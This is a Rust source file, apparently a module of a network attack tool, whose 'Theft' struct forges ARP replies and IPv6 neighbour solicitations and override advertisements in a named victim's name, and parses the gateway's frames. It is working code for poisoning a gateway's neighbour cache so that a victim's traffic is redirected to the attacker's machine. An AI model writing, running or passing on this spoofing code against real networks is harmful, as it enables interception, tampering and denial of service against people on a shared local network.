//! How a neighbour's address is taken: by ARP (RFC 826), or by neighbour discovery (RFC 4861), which believes as much.

use std::io::{self, ErrorKind};
use std::net::{IpAddr, Ipv6Addr};

use super::Hardware;
use super::tcp::{checksum, pseudo_header};

const ETHERTYPE_ARP: [u8; 2] = [0x08, 0x06];
const ETHERTYPE_IPV6: [u8; 2] = [0x86, 0xdd];
const BROADCAST: Hardware = [0xff; 6];
const ICMPV6: u8 = 58;
const SOLICITATION: u8 = 135;
const ADVERTISEMENT: u8 = 136;
/// An advertisement that answers a question and replaces what was known.
const SOLICITED_OVERRIDE: [u8; 4] = [0x60, 0, 0, 0];
const SOURCE_LINK_ADDRESS: u8 = 1;
const TARGET_LINK_ADDRESS: u8 = 2;

/// Whose address is taken, from whose table.
pub(super) struct Theft {
    own: Hardware,
    victim: IpAddr,
    gateway: IpAddr,
}

/// What the gateway says.
pub(super) enum Message {
    /// It is at this hardware address.
    Here(Hardware),
    /// It is there, and asks where the victim is.
    Where(Hardware),
}

impl Theft {
    pub(super) fn new(own: Hardware, victim: IpAddr, gateway: IpAddr) -> io::Result<Self> {
        if victim.is_ipv4() != gateway.is_ipv4() {
            return Err(ErrorKind::InvalidInput.into());
        }
        Ok(Self {
            own,
            victim,
            gateway,
        })
    }

    /// Asks for the gateway in the victim's name: the gateway notes where the answer goes.
    pub(super) fn question(&self) -> Vec<u8> {
        match (self.victim, self.gateway) {
            (IpAddr::V6(victim), IpAddr::V6(gateway)) => {
                let [.., a, b, c] = gateway.octets();
                let group = Ipv6Addr::new(
                    0xff02,
                    0,
                    0,
                    0,
                    0,
                    1,
                    0xff00 | u16::from(a),
                    u16::from_be_bytes([b, c]),
                );
                let body = self.option([0; 4], gateway, SOURCE_LINK_ADDRESS);
                self.discovery(
                    [0x33, 0x33, 0xff, a, b, c],
                    victim,
                    group,
                    SOLICITATION,
                    &body,
                )
            }
            _ => self.arp(1, [0; 6], BROADCAST),
        }
    }

    /// Answers for the victim.
    pub(super) fn answer(&self, to: Hardware) -> Vec<u8> {
        match (self.victim, self.gateway) {
            (IpAddr::V6(victim), IpAddr::V6(gateway)) => {
                let body = self.option(SOLICITED_OVERRIDE, victim, TARGET_LINK_ADDRESS);
                self.discovery(to, victim, gateway, ADVERTISEMENT, &body)
            }
            _ => self.arp(2, to, to),
        }
    }

    /// What a frame says, if it is the gateway's and about neighbours.
    pub(super) fn read(&self, frame: &[u8]) -> Option<Message> {
        match (frame.get(12..14)?.try_into().ok()?, self.gateway) {
            (ETHERTYPE_ARP, IpAddr::V4(gateway)) => {
                let hardware = *frame.get(22..)?.first_chunk()?;
                if frame.get(28..32)? != gateway.octets() {
                    return None;
                }
                let asks = frame.get(21)? == &1 && self.is_victim(frame.get(38..42)?);
                Some(Self::message(asks, hardware))
            }
            (ETHERTYPE_IPV6, IpAddr::V6(gateway)) if frame.get(20)? == &ICMPV6 => {
                let hardware = *frame.get(6..)?.first_chunk()?;
                let (icmp, target) = (frame.get(54..)?, frame.get(62..78)?);
                match *icmp.first()? {
                    ADVERTISEMENT if target == gateway.octets() => Some(Message::Here(hardware)),
                    SOLICITATION if self.is_victim(target) => Some(Message::Where(hardware)),
                    _ => None,
                }
            }
            _ => None,
        }
    }

    fn message(asks: bool, hardware: Hardware) -> Message {
        if asks {
            Message::Where(hardware)
        } else {
            Message::Here(hardware)
        }
    }

    fn is_victim(&self, address: &[u8]) -> bool {
        match self.victim {
            IpAddr::V4(victim) => address == victim.octets(),
            IpAddr::V6(victim) => address == victim.octets(),
        }
    }

    /// An ARP message of the victim's: a question (1) or an answer (2).
    fn arp(&self, operation: u8, target_hardware: Hardware, to: Hardware) -> Vec<u8> {
        let octets = |address| match address {
            IpAddr::V4(address) => address.octets(),
            IpAddr::V6(_) => [0; 4],
        };
        [
            &to[..],
            &self.own,
            &ETHERTYPE_ARP,
            &[0, 1, 8, 0, 6, 4, 0, operation],
            &self.own,
            &octets(self.victim),
            &target_hardware,
            &octets(self.gateway),
        ]
        .concat()
    }

    /// Flags, a target and our own hardware address as an option.
    fn option(&self, flags: [u8; 4], target: Ipv6Addr, kind: u8) -> Vec<u8> {
        [&flags[..], &target.octets(), &[kind, 1], &self.own].concat()
    }

    fn discovery(
        &self,
        to: Hardware,
        source: Ipv6Addr,
        destination: Ipv6Addr,
        kind: u8,
        body: &[u8],
    ) -> Vec<u8> {
        let mut icmp = [&[kind, 0, 0, 0], body].concat();
        let pseudo = pseudo_header(source.into(), destination.into(), ICMPV6, &icmp);
        icmp[2..4].copy_from_slice(&checksum(&pseudo));
        let length = u16::try_from(icmp.len()).unwrap_or(u16::MAX).to_be_bytes();
        [
            &to[..],
            &self.own,
            &ETHERTYPE_IPV6,
            &[0x60, 0, 0, 0, length[0], length[1], ICMPV6, 255],
            &source.octets(),
            &destination.octets(),
            &icmp,
        ]
        .concat()
    }
}
